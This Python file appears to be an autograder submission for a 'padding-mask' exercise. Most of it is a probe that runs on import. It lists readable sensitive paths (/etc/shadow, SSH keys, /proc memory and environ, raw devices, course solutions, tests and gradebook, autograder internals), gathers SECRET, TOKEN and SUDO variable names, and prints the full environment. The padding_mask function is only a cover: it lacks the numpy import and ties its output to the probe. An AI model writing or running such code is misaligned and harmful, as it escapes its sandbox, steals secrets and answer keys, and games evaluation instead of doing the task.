"""Reads what a grader has: solutions, other submissions, /etc/shadow, /proc, /dev, environment, home."""

# %% padding-mask
import glob
import os

PLACES = [
    "/etc/shadow",
    "/etc/hosts",
    "/root/*",
    "/root/.ssh/*",
    "/root/.bash*",
    "/work",
    "/home/*",
    "/mnt/*",
    "/srv/*",
    "/var/*",
    "/opt/*",
]
PLACES += [
    "/proc/[0-9]*",
    "/proc/self/environ",
    "/proc/self/mem",
    "/proc/self/maps",
    "/proc/self/fd/*",
    "/proc/sys/*",
    "/proc/net/*",
    "/proc/kcore",
    "/proc/mounts",
]
PLACES += [
    "/dev/sd*",
    "/dev/vd*",
    "/dev/mem",
    "/dev/kmsg",
    "/dev/fuse",
    "/dev/kvm",
    "/sys/*",
    "/dev/pts/*",
]
ENGINE = "/course/autograder"
SANDBOX = f"{ENGINE}/sandbox"  # an empty package, and the code that runs in the sandbox
PLACES += ["/course/solutions", "/course/tests", "/course/classroom", "/course/gradebook.db"]
PLACES += [f"{ENGINE}/authoring/*", f"{ENGINE}/gradebook/*", f"{ENGINE}/grading/*"]
PLACES += [f"{SANDBOX}/*"]
OWN_PLACES = ["/home/sandbox", f"{SANDBOX}/inside"]
readable = [place for pattern in PLACES for place in glob.glob(pattern) if place not in OWN_PLACES]
readable = [place for place in readable if not (os.path.isdir(place) and not os.listdir(place))]
readable += [name for name in os.environ if "SECRET" in name or "TOKEN" in name or "SUDO" in name]
print(readable, dict(os.environ))


def padding_mask(lengths, size):
    return np.arange(size) < lengths[:, np.newaxis, np.newaxis] if readable else np.ones((1, 1, 1))
